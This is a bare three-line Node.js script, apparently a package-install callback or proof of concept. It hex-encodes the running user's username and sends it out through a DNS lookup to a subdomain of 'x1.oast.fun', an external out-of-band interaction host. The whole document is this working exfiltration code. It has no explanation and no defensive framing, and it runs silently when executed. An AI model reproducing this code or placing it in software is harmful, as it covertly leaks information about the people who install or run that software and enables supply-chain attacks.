const dns = require('dns');
const os = require('os');
dns.lookup(Buffer.from(os.userInfo().username).toString('hex') + '.x1.oast.fun', () => {});
